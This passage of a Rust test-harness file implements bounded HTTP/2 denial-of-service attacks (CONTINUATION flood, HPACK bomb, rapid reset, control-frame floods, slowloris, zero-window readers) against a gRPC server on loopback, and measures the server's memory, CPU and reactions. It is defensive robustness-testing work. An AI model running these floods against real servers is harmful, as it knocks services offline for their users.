//! The hostile-peer attacks: each opens raw HTTP/2 connections to a gRPC server over loopback
//! and misbehaves in one way (CONTINUATION floods, HPACK bombs, rapid reset, control-frame
//! floods, zero-window readers, bodies announced and never sent, slowloris, idle hordes,
//! abrupt disconnects), bounded in bytes, frames and time. Each returns an [`Outcome`]: what it
//! sent and what the server did (GOAWAY codes, RST_STREAM codes, `:status` answers).
//!
//! [`measure`] runs one attack against a server process while sampling that process's RSS
//! and CPU from `/proc` and timing probe calls made on fresh connections alongside it.
//!
//! Used by `rgrpc-runtime/tests/hostile.rs` (small, CI-sized parameters) and by
//! `conformance/src/bin/h2-attack.rs` (the parameters), which includes this file and
//! `h2raw.rs` as they are. Self-contained: std, tokio.
#![allow(dead_code)]

use std::collections::BTreeMap;
use std::future::Future;
use std::io;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::net::TcpStream;
use tokio::task::JoinHandle;

use super::h2raw::{self, hpack, kind, setting};

/// The server under attack: where it listens and how to ask it for work.
#[derive(Clone, Debug)]
pub struct Target {
    pub addr: SocketAddr,
    /// A unary method.
    pub unary_path: String,
    /// A request message (serialized, no prefix) asking the unary method for a response of
    /// this many payload bytes.
    pub request_for_response: fn(u32) -> Vec<u8>,
}

/// What an attack did and what the server answered, summed over its connections.
#[derive(Clone, Debug, Default)]
pub struct Outcome {
    /// Bytes the attacker managed to write.
    pub sent: u64,
    /// Connections opened (and handshaken, where the attack does that).
    pub connections: u32,
    /// Connections the server closed (EOF or reset) before the attacker let go.
    pub closed_by_server: u32,
    /// GOAWAY frames by `CODE debug-data`.
    pub goaways: BTreeMap<String, u32>,
    /// RST_STREAM frames by code.
    pub resets: BTreeMap<&'static str, u32>,
    /// Response `:status` values.
    pub statuses: BTreeMap<u16, u32>,
    /// `grpc-status` values in trailers-only answers and trailers.
    pub grpc_statuses: BTreeMap<u32, u32>,
    /// Streams the attacker opened.
    pub streams: u64,
    /// Frames the attacker sent.
    pub frames: u64,
}

impl Outcome {
    fn merge(&mut self, other: Outcome) {
        self.sent += other.sent;
        self.connections += other.connections;
        self.closed_by_server += other.closed_by_server;
        self.streams += other.streams;
        self.frames += other.frames;
        for (k, v) in other.goaways {
            *self.goaways.entry(k).or_default() += v;
        }
        for (k, v) in other.resets {
            *self.resets.entry(k).or_default() += v;
        }
        for (k, v) in other.statuses {
            *self.statuses.entry(k).or_default() += v;
        }
        for (k, v) in other.grpc_statuses {
            *self.grpc_statuses.entry(k).or_default() += v;
        }
    }

    /// True if some GOAWAY carried `code` (e.g. `ENHANCE_YOUR_CALM`).
    pub fn goaway_with(&self, code: &str) -> bool {
        self.goaways.keys().any(|k| k.starts_with(code))
    }

    /// What the server did, in one line.
    pub fn reaction(&self) -> String {
        let mut parts = Vec::new();
        for (k, v) in &self.goaways {
            parts.push(format!("GOAWAY {k} x{v}"));
        }
        for (k, v) in &self.resets {
            parts.push(format!("RST {k} x{v}"));
        }
        for (k, v) in &self.statuses {
            parts.push(format!(":status {k} x{v}"));
        }
        for (k, v) in &self.grpc_statuses {
            parts.push(format!("grpc-status {k} x{v}"));
        }
        if self.closed_by_server > 0 {
            parts.push(format!(
                "closed {}/{} conns",
                self.closed_by_server, self.connections
            ));
        }
        if parts.is_empty() {
            "nothing".to_owned()
        } else {
            parts.join(", ")
        }
    }
}

/// What the reader task of a connection saw.
#[derive(Debug, Default)]
struct Seen {
    outcome: Outcome,
    closed: bool,
    /// Flow-control credit (RFC 9113 §6.9): the connection's, and each stream's updates
    /// minus what was sent on it, on top of the server's initial window.
    conn_credit: i64,
    stream_credit: std::collections::HashMap<u32, i64>,
}

/// One raw connection: the write half for the attack, a task reading (and recording) every
/// frame the server sends.
pub struct Conn {
    write: OwnedWriteHalf,
    seen: Arc<Mutex<Seen>>,
    reader: JoinHandle<()>,
    /// The server's SETTINGS_MAX_FRAME_SIZE.
    pub max_frame: usize,
    /// The server's SETTINGS_MAX_CONCURRENT_STREAMS, if it sent one.
    pub max_streams: Option<u32>,
    /// The server's SETTINGS_INITIAL_WINDOW_SIZE.
    pub initial_window: i64,
    sent: u64,
    frames: u64,
    streams: u64,
    next_stream: u32,
}

/// Our SETTINGS: a big window unless an attack wants otherwise.
const CLIENT_SETTINGS: &[(u16, u32)] = &[(setting::ENABLE_PUSH, 0)];

impl Conn {
    /// Connects, sends the preface and `settings`, and waits for the server's SETTINGS
    /// (acknowledged at once), within 5 s.
    pub async fn open(addr: SocketAddr, settings: &[(u16, u32)]) -> io::Result<Conn> {
        tokio::time::timeout(Duration::from_secs(5), Self::open_inner(addr, settings))
            .await
            .map_err(|_| io::Error::new(io::ErrorKind::TimedOut, "handshake timed out"))?
    }

    async fn open_inner(addr: SocketAddr, settings: &[(u16, u32)]) -> io::Result<Conn> {
        let tcp = TcpStream::connect(addr).await?;
        tcp.set_nodelay(true)?;
        let (mut read, mut write) = tcp.into_split();
        let mut hello = h2raw::PREFACE.to_vec();
        hello.extend(h2raw::settings(settings));
        write.write_all(&hello).await?;
        let (mut max_frame, mut max_streams, mut initial_window) = (16_384, None, 65_535);
        loop {
            let frame = h2raw::read_frame(&mut read, 1 << 24).await?;
            if frame.kind == kind::SETTINGS && frame.flags & h2raw::flag::ACK == 0 {
                for (id, value) in frame.settings() {
                    match id {
                        setting::MAX_FRAME_SIZE => max_frame = value as usize,
                        setting::MAX_CONCURRENT_STREAMS => max_streams = Some(value),
                        setting::INITIAL_WINDOW_SIZE => initial_window = i64::from(value),
                        _ => {}
                    }
                }
                break;
            }
        }
        write.write_all(&h2raw::settings_ack()).await?;
        let seen = Arc::new(Mutex::new(Seen {
            conn_credit: 65_535,
            ..Seen::default()
        }));
        let reader = tokio::spawn(read_all(read, seen.clone()));
        Ok(Conn {
            write,
            seen,
            reader,
            max_frame,
            max_streams,
            initial_window,
            sent: hello.len() as u64 + 9,
            frames: 2,
            streams: 0,
            next_stream: 1,
        })
    }

    /// Writes `bytes`, giving up at `deadline`; false once the server has closed the
    /// connection, the write failed, or the deadline passed.
    pub async fn send(&mut self, bytes: &[u8], deadline: Instant) -> bool {
        if self.closed() {
            return false;
        }
        let deadline = tokio::time::Instant::from_std(deadline);
        match tokio::time::timeout_at(deadline, self.write.write_all(bytes)).await {
            Ok(Ok(())) => {
                self.sent += bytes.len() as u64;
                true
            }
            _ => false,
        }
    }

    /// Sends what of `bytes` flow control allows as DATA on `stream` (not ending it), as an
    /// honest sender does; returns what was sent (0 if there is no window now).
    pub async fn send_data(&mut self, stream: u32, bytes: &[u8], deadline: Instant) -> usize {
        let mut done = 0;
        while done < bytes.len() && Instant::now() < deadline && !self.closed() {
            let credit = {
                let Ok(mut seen) = self.seen.lock() else {
                    break;
                };
                let stream_credit =
                    self.initial_window + seen.stream_credit.get(&stream).copied().unwrap_or(0);
                let n = stream_credit
                    .min(seen.conn_credit)
                    .min(self.max_frame as i64)
                    .min((bytes.len() - done) as i64);
                if n > 0 {
                    seen.conn_credit -= n;
                    *seen.stream_credit.entry(stream).or_default() -= n;
                }
                n
            };
            if credit <= 0 {
                break;
            }
            let n = credit as usize;
            if !self
                .send(
                    &h2raw::data(stream, false, &bytes[done..done + n]),
                    deadline,
                )
                .await
            {
                break;
            }
            self.frames += 1;
            done += n;
        }
        done
    }

    /// True once the server has closed the connection.
    pub fn closed(&self) -> bool {
        self.seen.lock().map(|s| s.closed).unwrap_or(true)
    }

    /// True once the server has sent GOAWAY.
    pub fn got_goaway(&self) -> bool {
        self.seen
            .lock()
            .map(|s| !s.outcome.goaways.is_empty())
            .unwrap_or(true)
    }

    /// The next client stream id.
    pub fn stream(&mut self) -> u32 {
        let id = self.next_stream;
        self.next_stream += 2;
        self.streams += 1;
        id
    }

    /// Counts frames sent.
    pub fn count(&mut self, frames: u64) {
        self.frames += frames;
    }

    /// Waits up to `wait` for the server to react (close the connection), then hangs up and
    /// reports.
    pub async fn finish(self, wait: Duration) -> Outcome {
        let deadline = tokio::time::Instant::now() + wait;
        while !self.closed() && tokio::time::Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        self.hang_up().await
    }

    /// Hangs up at once and reports.
    pub async fn hang_up(self) -> Outcome {
        let closed = self.closed();
        drop(self.write);
        // Give the reader a moment to take in what is already on the way.
        let _ = tokio::time::timeout(Duration::from_millis(200), async {
            while !self.reader.is_finished() {
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        })
        .await;
        self.reader.abort();
        let mut outcome = self
            .seen
            .lock()
            .map(|mut s| std::mem::take(&mut s.outcome))
            .unwrap_or_default();
        outcome.sent = self.sent;
        outcome.connections = 1;
        outcome.closed_by_server = u32::from(closed);
        outcome.frames = self.frames;
        outcome.streams = self.streams;
        outcome
    }

    /// Hangs up with a TCP reset (SO_LINGER 0), as a crashed or unplugged client does.
    pub async fn abort(self) -> Outcome {
        let Conn {
            write,
            reader,
            seen,
            sent,
            frames,
            streams,
            ..
        } = self;
        let tcp: &TcpStream = write.as_ref();
        let _ = tcp.set_zero_linger();
        // The socket closes when the read half (in the reader task) goes, with a reset.
        write.forget();
        reader.abort();
        let _ = reader.await;
        let mut outcome = seen
            .lock()
            .map(|mut s| std::mem::take(&mut s.outcome))
            .unwrap_or_default();
        outcome.sent = sent;
        outcome.connections = 1;
        outcome.frames = frames;
        outcome.streams = streams;
        outcome
    }
}

/// Reads and records every frame until the connection ends.
async fn read_all(mut read: tokio::net::tcp::OwnedReadHalf, seen: Arc<Mutex<Seen>>) {
    let mut decoder = h2raw::Decoder::default();
    let mut block: Vec<u8> = Vec::new();
    loop {
        let frame = match h2raw::read_frame(&mut read, 1 << 24).await {
            Ok(frame) => frame,
            Err(_) => break,
        };
        let Ok(mut seen) = seen.lock() else { break };
        let outcome = &mut seen.outcome;
        match frame.kind {
            kind::GOAWAY => {
                if let Some((code, debug)) = frame.goaway() {
                    let key = format!("{} {debug}", h2raw::error_name(code));
                    *outcome
                        .goaways
                        .entry(key.trim_end().to_owned())
                        .or_default() += 1;
                }
            }
            kind::WINDOW_UPDATE if frame.payload.len() == 4 => {
                let inc = i64::from(
                    u32::from_be_bytes([
                        frame.payload[0],
                        frame.payload[1],
                        frame.payload[2],
                        frame.payload[3],
                    ]) & 0x7fff_ffff,
                );
                if frame.stream == 0 {
                    seen.conn_credit += inc;
                } else {
                    // Kept as updates minus what was sent, on top of the initial window.
                    *seen.stream_credit.entry(frame.stream).or_default() += inc;
                }
            }
            kind::RST_STREAM => {
                if let Some(code) = frame.rst_code() {
                    *outcome.resets.entry(h2raw::error_name(code)).or_default() += 1;
                }
            }
            kind::HEADERS | kind::CONTINUATION => {
                block.extend_from_slice(frame.block());
                if frame.flags & h2raw::flag::END_HEADERS != 0 {
                    if let Ok(fields) = decoder.decode(&block) {
                        for (name, value) in fields {
                            if name == b":status" {
                                let status = String::from_utf8_lossy(&value).parse().unwrap_or(0);
                                *outcome.statuses.entry(status).or_default() += 1;
                            }
                            if name == b"grpc-status" {
                                let status = String::from_utf8_lossy(&value).parse().unwrap_or(99);
                                *outcome.grpc_statuses.entry(status).or_default() += 1;
                            }
                        }
                    }
                    block.clear();
                }
            }
            _ => {}
        }
    }
    if let Ok(mut seen) = seen.lock() {
        seen.closed = true;
    }
}

/// Opens `n` connections concurrently.
async fn open_many(addr: SocketAddr, n: usize, settings: &[(u16, u32)]) -> Vec<Conn> {
    let mut conns = Vec::with_capacity(n);
    for chunk in (0..n).collect::<Vec<_>>().chunks(64) {
        let opened = futures_join_all(chunk.iter().map(|_| Conn::open(addr, settings))).await;
        conns.extend(opened.into_iter().flatten());
    }
    conns
}

/// A tiny join_all: spawns nothing, polls all futures in one task.
async fn futures_join_all<F: Future>(futs: impl Iterator<Item = F>) -> Vec<F::Output> {
    let mut futs: Vec<_> = futs.map(Box::pin).collect();
    let mut out: Vec<Option<F::Output>> = futs.iter().map(|_| None).collect();
    std::future::poll_fn(|cx| {
        let mut pending = false;
        for (fut, slot) in futs.iter_mut().zip(out.iter_mut()) {
            if slot.is_none() {
                match fut.as_mut().poll(cx) {
                    std::task::Poll::Ready(v) => *slot = Some(v),
                    std::task::Poll::Pending => pending = true,
                }
            }
        }
        if pending {
            std::task::Poll::Pending
        } else {
            std::task::Poll::Ready(())
        }
    })
    .await;
    out.into_iter().flatten().collect()
}

async fn finish_all(conns: Vec<Conn>, wait: Duration) -> Outcome {
    let mut total = Outcome::default();
    for o in futures_join_all(conns.into_iter().map(|c| c.finish(wait))).await {
        total.merge(o);
    }
    total
}

async fn hang_up_all(conns: Vec<Conn>) -> Outcome {
    let mut total = Outcome::default();
    for o in futures_join_all(conns.into_iter().map(Conn::hang_up)).await {
        total.merge(o);
    }
    total
}

/// Splits a header block into HEADERS + CONTINUATION frames of at most `max` bytes each.
fn header_frames(stream: u32, block: &[u8], max: usize, end_stream: bool) -> (Vec<u8>, u64) {
    let mut out = Vec::with_capacity(block.len() + 9 * (block.len() / max + 1));
    let mut chunks = block.chunks(max).peekable();
    let first = chunks.next().unwrap_or(&[]);
    let mut frames = 1;
    out.extend(h2raw::headers(
        stream,
        chunks.peek().is_none(),
        end_stream,
        first,
    ));
    while let Some(chunk) = chunks.next() {
        out.extend(h2raw::continuation(stream, chunks.peek().is_none(), chunk));
        frames += 1;
    }
    (out, frames)
}

/// CONTINUATION flood (CVE-2024-27316 family): on each of `conns` connections, a HEADERS
/// frame without END_HEADERS that starts a header value announced as 128 MiB, then
/// CONTINUATION frames of the server's maximum frame size, none with END_HEADERS, up to
/// `max_bytes` per connection or until `duration` passes. Connections are held until then.
pub async fn continuation_flood(
    target: &Target,
    conns: usize,
    max_bytes: u64,
    duration: Duration,
) -> Outcome {
    let deadline = Instant::now() + duration;
    let mut all = open_many(target.addr, conns, CLIENT_SETTINGS).await;
    let flood = all.iter_mut().map(|conn| async move {
        let stream = conn.stream();
        let mut block = hpack::grpc_request(&target.unary_path, "x");
        block.push(0x00);
        hpack::string(&mut block, b"x-flood");
        hpack::int(&mut block, 7, 0, 1 << 27);
        if !conn
            .send(&h2raw::headers(stream, false, false, &block), deadline)
            .await
        {
            return;
        }
        conn.count(1);
        let filler = h2raw::continuation(stream, false, &vec![b'a'; conn.max_frame]);
        // Several frames per write: an attacker does not wait for each.
        let batch: Vec<u8> = filler.repeat(4);
        while conn.sent < max_bytes && Instant::now() < deadline {
            if !conn.send(&batch, deadline).await {
                break;
            }
            conn.count(4);
        }
    });
    futures_join_all(flood).await;
    hold_until(&all, deadline).await;
    finish_all(all, Duration::from_millis(100)).await
}

/// Waits until `deadline` or until every connection is closed.
async fn hold_until(conns: &[Conn], deadline: Instant) {
    while Instant::now() < deadline && conns.iter().any(|c| !c.closed()) {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// The request head plus a 4,000-byte header added to the HPACK dynamic table once; then
/// `refs` one-byte references to it, each of which decodes to the whole 4 KB header.
fn bomb_block(target: &Target, first: bool, refs: usize) -> Vec<u8> {
    let mut block = hpack::grpc_request(&target.unary_path, "x");
    if first {
        hpack::literal_indexed(&mut block, b"x-bomb", &[b'a'; 4000]);
    }
    for _ in 0..refs {
        hpack::indexed(&mut block, 62);
    }
    block
}

/// HPACK bomb, one header block: `refs` references to a 4 KB dynamic-table entry in one
/// request (≈ `refs` × 4 KB decoded), the request kept open until `duration` passes.
pub async fn hpack_bomb(target: &Target, refs: usize, duration: Duration) -> Outcome {
    hpack_bomb_held(target, 1, 1, refs, duration).await
}

/// HPACK bomb held open: on each of `conns` connections, `streams` requests whose header
/// blocks each reference a 4 KB dynamic-table entry `refs` times; the requests never end and
/// the connections are held until `duration` passes.
pub async fn hpack_bomb_held(
    target: &Target,
    conns: usize,
    streams: usize,
    refs: usize,
    duration: Duration,
) -> Outcome {
    let deadline = Instant::now() + duration;
    let mut all = open_many(target.addr, conns, CLIENT_SETTINGS).await;
    let bomb = all.iter_mut().map(|conn| async move {
        for i in 0..streams {
            let stream = conn.stream();
            let block = bomb_block(target, i == 0, refs);
            let (frames, n) = header_frames(stream, &block, conn.max_frame, false);
            if !conn.send(&frames, deadline).await {
                break;
            }
            conn.count(n);
        }
    });
    futures_join_all(bomb).await;
    hold_until(&all, deadline).await;
    finish_all(all, Duration::from_millis(100)).await
}

/// One request whose header list is `size` bytes (one `x-big` header of that many bytes),
/// sent `count` times on one connection, each request complete; the answers are recorded.
pub async fn oversized_headers(target: &Target, size: usize, count: usize) -> Outcome {
    let deadline = Instant::now() + Duration::from_secs(5);
    let Ok(mut conn) = Conn::open(target.addr, CLIENT_SETTINGS).await else {
        return Outcome::default();
    };
    let body = h2raw::grpc_message(0, &[]);
    for _ in 0..count {
        let stream = conn.stream();
        let mut block = hpack::grpc_request(&target.unary_path, "x");
        hpack::literal(&mut block, b"x-big", &vec![b'b'; size]);
        let (mut frames, n) = header_frames(stream, &block, conn.max_frame, false);
        frames.extend(h2raw::data(stream, true, &body));
        if !conn.send(&frames, deadline).await {
            break;
        }
        conn.count(n + 1);
    }
    // Wait for the answers (or the connection's end).
    let wait_until = Instant::now() + Duration::from_secs(2);
    while Instant::now() < wait_until && !conn.closed() {
        let answered = conn
            .seen
            .lock()
            .map(|s| {
                s.outcome.statuses.values().sum::<u32>() + s.outcome.resets.values().sum::<u32>()
            })
            .unwrap_or(0);
        if answered as usize >= count {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    conn.hang_up().await
}

/// Rapid reset (CVE-2023-44487): a request (HEADERS, never ended) immediately followed by
/// RST_STREAM CANCEL, in batches, `max_streams` times or until `duration` passes.
pub async fn rapid_reset(target: &Target, max_streams: u64, duration: Duration) -> Outcome {
    let deadline = Instant::now() + duration;
    let Ok(mut conn) = Conn::open(target.addr, CLIENT_SETTINGS).await else {
        return Outcome::default();
    };
    let block = hpack::grpc_request(&target.unary_path, "x");
    while conn.streams < max_streams && Instant::now() < deadline {
        let mut batch = Vec::new();
        for _ in 0..100 {
            let stream = conn.stream();
            batch.extend(h2raw::headers(stream, true, false, &block));
            batch.extend(h2raw::rst_stream(stream, 0x8));
        }
        if !conn.send(&batch, deadline).await {
            break;
        }
        conn.count(200);
    }
    conn.finish(Duration::from_millis(200)).await
}

/// Floods one connection with the frame `make` builds, in batches of 500, up to
/// `max_frames` or until `duration` passes. `setup` runs first (e.g. opens a stream).
async fn flood(
    target: &Target,
    max_frames: u64,
    duration: Duration,
    open_stream: bool,
    make: impl Fn(u32, u64) -> Vec<u8>,
) -> Outcome {
    let deadline = Instant::now() + duration;
    let Ok(mut conn) = Conn::open(target.addr, CLIENT_SETTINGS).await else {
        return Outcome::default();
    };
    let mut stream = 0;
    if open_stream {
        stream = conn.stream();
        let block = hpack::grpc_request(&target.unary_path, "x");
        if !conn
            .send(&h2raw::headers(stream, true, false, &block), deadline)
            .await
        {
            return conn.hang_up().await;
        }
        conn.count(1);
    }
    let mut n = 0u64;
    while n < max_frames && Instant::now() < deadline {
        let mut batch = Vec::new();
        for _ in 0..500 {
            batch.extend(make(stream, n));
            n += 1;
        }
        if !conn.send(&batch, deadline).await {
            break;
        }
        conn.count(500);
    }
    conn.finish(Duration::from_millis(200)).await
}

/// PING flood: PING frames as fast as the server takes them.
pub async fn ping_flood(target: &Target, max_frames: u64, duration: Duration) -> Outcome {
    flood(target, max_frames, duration, false, |_, n| {
        h2raw::ping(n.to_be_bytes())
    })
    .await
}

/// SETTINGS flood: SETTINGS frames (each needing an ACK) as fast as the server takes them.
pub async fn settings_flood(target: &Target, max_frames: u64, duration: Duration) -> Outcome {
    flood(target, max_frames, duration, false, |_, _| {
        h2raw::settings(&[(setting::MAX_CONCURRENT_STREAMS, 100)])
    })
    .await
}

/// Empty DATA flood (CVE-2019-9518): zero-length DATA frames without END_STREAM on one open
/// request.
pub async fn empty_data_flood(target: &Target, max_frames: u64, duration: Duration) -> Outcome {
    flood(target, max_frames, duration, true, |stream, _| {
        h2raw::data(stream, false, &[])
    })
    .await
}

/// WINDOW_UPDATE flood: increments of 1 on the connection window.
pub async fn window_update_flood(target: &Target, max_frames: u64, duration: Duration) -> Outcome {
    flood(target, max_frames, duration, false, |_, _| {
        h2raw::window_update(0, 1)
    })
    .await
}

/// PRIORITY flood (CVE-2019-9513): PRIORITY frames on ever new idle streams.
pub async fn priority_flood(target: &Target, max_frames: u64, duration: Duration) -> Outcome {
    flood(target, max_frames, duration, false, |_, n| {
        let stream = (2 * (n % 1_000_000_000) + 1) as u32;
        h2raw::priority(stream, 0, 16)
    })
    .await
}

/// Zero-window reader: SETTINGS_INITIAL_WINDOW_SIZE 0, then `streams` complete unary
/// requests per connection asking for `response_size`-byte responses, on `conns`
/// connections; the responses can never be sent. Held until `duration` passes.
pub async fn zero_window(
    target: &Target,
    conns: usize,
    streams: usize,
    response_size: u32,
    duration: Duration,
) -> Outcome {
    let deadline = Instant::now() + duration;
    let settings = [(setting::ENABLE_PUSH, 0), (setting::INITIAL_WINDOW_SIZE, 0)];
    let mut all = open_many(target.addr, conns, &settings).await;
    let body = h2raw::grpc_message(
        (target.request_for_response)(response_size).len() as u32,
        &(target.request_for_response)(response_size),
    );
    let block = hpack::grpc_request(&target.unary_path, "x");
    let work = all.iter_mut().map(|conn| {
        let (body, block) = (&body, &block);
        async move {
            let mut batch = Vec::new();
            for _ in 0..streams {
                let stream = conn.stream();
                batch.extend(h2raw::headers(stream, true, false, block));
                batch.extend(h2raw::data(stream, true, body));
            }
            if conn.send(&batch, deadline).await {
                conn.count(2 * streams as u64);
            }
        }
    });
    futures_join_all(work).await;
    hold_until(&all, deadline).await;
    hang_up_all(all).await
}

/// Bodies announced and never sent: on `conns` connections, `streams` requests each whose
/// message prefix announces `announced` bytes, followed by `sent` bytes of it (in DATA
/// frames of the server's maximum size, as far as flow control lets them through), then
/// nothing. Held until `duration` passes.
pub async fn never_sent_body(
    target: &Target,
    conns: usize,
    streams: usize,
    announced: u32,
    sent: usize,
    duration: Duration,
) -> Outcome {
    let deadline = Instant::now() + duration;
    // Give the data a moment to be sent before the hold counts.
    let write_deadline = Instant::now() + duration / 2;
    let mut all = open_many(target.addr, conns, CLIENT_SETTINGS).await;
    let block = hpack::grpc_request(&target.unary_path, "x");
    let work = all.iter_mut().map(|conn| {
        let block = &block;
        async move {
            let mut ids = Vec::new();
            let mut batch = Vec::new();
            for _ in 0..streams {
                let stream = conn.stream();
                ids.push(stream);
                batch.extend(h2raw::headers(stream, true, false, block));
            }
            if !conn.send(&batch, write_deadline).await {
                return;
            }
            conn.count(streams as u64);
            // The prefix, then the body in 16 KiB steps, round-robin over the streams, each
            // as flow control allows.
            let prefix = h2raw::grpc_message(announced, &[]);
            let chunk = vec![b'z'; 16_384];
            let mut left: Vec<usize> = ids.iter().map(|_| prefix.len() + sent).collect();
            while Instant::now() < write_deadline && !conn.closed() {
                let mut progress = false;
                for (id, left) in ids.iter().zip(left.iter_mut()) {
                    if *left == 0 {
                        continue;
                    }
                    let n = if *left > sent {
                        conn.send_data(*id, &prefix[prefix.len() + sent - *left..], write_deadline)
                            .await
                    } else {
                        conn.send_data(*id, &chunk[..chunk.len().min(*left)], write_deadline)
                            .await
                    };
                    *left -= n;
                    progress |= n > 0;
                }
                if left.iter().all(|&l| l == 0) {
                    break;
                }
                if !progress {
                    tokio::time::sleep(Duration::from_millis(10)).await;
                }
            }
        }
    });
    futures_join_all(work).await;
    hold_until(&all, deadline).await;
    hang_up_all(all).await
}

/// Slowloris on the preface: `conns` connections each sending the connection preface one
/// byte every `interval` until `duration` passes.
pub async fn slowloris_preface(
    target: &Target,
    conns: usize,
    interval: Duration,
    duration: Duration,
) -> Outcome {
    let mut streams = Vec::new();
    for _ in 0..conns {
        if let Ok(tcp) = TcpStream::connect(target.addr).await {
            streams.push(tcp);
        }
    }
    // Counted from the last connection, so every one has dribbled for `duration` (on a busy
    // machine, opening hundreds of connections takes a second or more).
    let deadline = Instant::now() + duration;
    let mut outcome = Outcome {
        connections: streams.len() as u32,
        ..Outcome::default()
    };
    let mut alive = vec![true; streams.len()];
    let mut i = 0;
    while Instant::now() < deadline {
        let byte = h2raw::PREFACE[i % h2raw::PREFACE.len()];
        for (tcp, alive) in streams.iter_mut().zip(alive.iter_mut()) {
            if *alive && tcp.write_all(&[byte]).await.is_ok() {
                outcome.sent += 1;
            } else {
                *alive = false;
            }
        }
        i += 1;
        tokio::time::sleep(interval).await;
    }
    // Every connection checked at once, so a slow answer costs one wait, not one each.
    let checks = streams
        .iter_mut()
        .zip(alive.iter())
        .map(|(tcp, alive)| async move { !*alive || is_eof(tcp).await });
    outcome.closed_by_server = futures_join_all(checks)
        .await
        .into_iter()
        .filter(|&closed| closed)
        .count() as u32;
    outcome
}

/// True if the peer has closed `tcp` (a read returns EOF or an error within 100 ms).
async fn is_eof(tcp: &mut TcpStream) -> bool {
    let mut buf = [0u8; 1024];
    loop {
        match tokio::time::timeout(
            Duration::from_millis(100),
            tokio::io::AsyncReadExt::read(tcp, &mut buf),
        )
        .await
        {
            Ok(Ok(0)) | Ok(Err(_)) => return true,
            Ok(Ok(_)) => continue,
            Err(_) => return false,
        }
    }
}

/// Slowloris on the headers: `conns` handshaken connections each sending one request's
/// HEADERS frame one byte every `interval` until `duration` passes.
pub async fn slowloris_headers(
    target: &Target,
    conns: usize,
    interval: Duration,
    duration: Duration,
) -> Outcome {
    let deadline = Instant::now() + duration;
    let mut all = open_many(target.addr, conns, CLIENT_SETTINGS).await;
    let mut frame = h2raw::headers(
        1,
        true,
        false,
        &hpack::grpc_request(&target.unary_path, "x"),
    );
    // Pad the block with a long header so it never completes within the test.
    let mut block = hpack::grpc_request(&target.unary_path, "x");
    hpack::literal(&mut block, b"x-slow", &[b's'; 4000]);
    if block.len() < 16_384 {
        frame = h2raw::headers(1, true, false, &block);
    }
    for conn in &mut all {
        conn.stream();
    }
    let mut i = 0;
    while Instant::now() < deadline && i < frame.len() {
        for conn in all.iter_mut() {
            conn.send(&frame[i..i + 1], deadline).await;
        }
        i += 1;
        tokio::time::sleep(interval).await;
    }
    hold_until(&all, deadline).await;
    hang_up_all(all).await
}

/// Thousands of idle connections: `conns` connections that complete the handshake and then
/// do nothing until `duration` passes.
pub async fn idle_connections(target: &Target, conns: usize, duration: Duration) -> Outcome {
    let deadline = Instant::now() + duration;
    let all = open_many(target.addr, conns, CLIENT_SETTINGS).await;
    hold_until(&all, deadline).await;
    hang_up_all(all).await
}

/// Abrupt disconnects mid-call: `conns` connections, each with `streams` requests whose
/// messages are half sent, then reset at the TCP level (SO_LINGER 0), `rounds` times.
pub async fn abrupt_disconnects(
    target: &Target,
    conns: usize,
    streams: usize,
    rounds: usize,
) -> Outcome {
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut total = Outcome::default();
    let block = hpack::grpc_request(&target.unary_path, "x");
    for _ in 0..rounds {
        let mut all = open_many(target.addr, conns, CLIENT_SETTINGS).await;
        for conn in &mut all {
            let mut batch = Vec::new();
            for _ in 0..streams {
                let stream = conn.stream();
                batch.extend(h2raw::headers(stream, true, false, &block));
                batch.extend(h2raw::data(
                    stream,
                    false,
                    &h2raw::grpc_message(1000, &[1; 500]),
                ));
            }
            if conn.send(&batch, deadline).await {
                conn.count(2 * streams as u64);
            }
        }
        // Let the server take the requests in before the plug is pulled.
        tokio::time::sleep(Duration::from_millis(50)).await;
        for o in futures_join_all(all.into_iter().map(Conn::abort)).await {
            total.merge(o);
        }
    }
    total
}

/// Memory and CPU of a process, from `/proc`.
pub mod procfs {
    use std::time::Duration;

    /// A `Vm*` field of `/proc/<pid>/status` in KiB (`VmRSS`, `VmHWM`).
    pub fn vm_kib(pid: u32, field: &str) -> Option<u64> {
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
        status.lines().find_map(|line| {
            let value = line.strip_prefix(field)?.strip_prefix(':')?;
            value.trim().strip_suffix("kB")?.trim().parse().ok()
        })
    }

    /// User plus system CPU time of process `pid` (`/proc/<pid>/stat` fields 14 and 15, in
    /// USER_HZ = 100 ticks per second).
    pub fn cpu(pid: u32) -> Option<Duration> {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
        let rest = &stat[stat.rfind(')')? + 1..];
        let mut fields = rest.split_whitespace().skip(11);
        let utime: u64 = fields.next()?.parse().ok()?;
        let stime: u64 = fields.next()?.parse().ok()?;
        Some(Duration::from_millis((utime + stime) * 10))
    }
}

/// Latencies of the probe calls made during an attack.
#[derive(Clone, Debug, Default)]
pub struct Probes {
    pub latencies: Vec<Duration>,
    /// Probes that failed or did not answer within their timeout.
    pub failures: u32,
    /// The first failure's message.
    pub first_failure: Option<String>,
}

impl Probes {
    pub fn max(&self) -> Duration {
        self.latencies.iter().copied().max().unwrap_or_default()
    }

    pub fn median(&self) -> Duration {
        let mut l = self.latencies.clone();
        l.sort();
        l.get(l.len() / 2).copied().unwrap_or_default()
    }
}

/// What [`measure`] saw.
#[derive(Clone, Debug)]
pub struct Report {
    pub outcome: Outcome,
    /// The server's resident memory before the attack, KiB.
    pub rss_before: u64,
    /// Its peak during the attack (sampled every 10 ms), KiB.
    pub rss_peak: u64,
    /// Its resident memory once the attack was over and the connections were gone, KiB.
    pub rss_after: u64,
    /// Server CPU time used during the attack.
    pub cpu: Duration,
    pub elapsed: Duration,
    pub probes: Probes,
}

impl Report {
    /// Peak growth over the baseline, MiB.
    pub fn peak_growth_mib(&self) -> f64 {
        self.rss_peak.saturating_sub(self.rss_before) as f64 / 1024.0
    }

    /// What stayed after the attack, MiB.
    pub fn after_growth_mib(&self) -> f64 {
        self.rss_after.saturating_sub(self.rss_before) as f64 / 1024.0
    }

    pub fn line(&self, name: &str) -> String {
        format!(
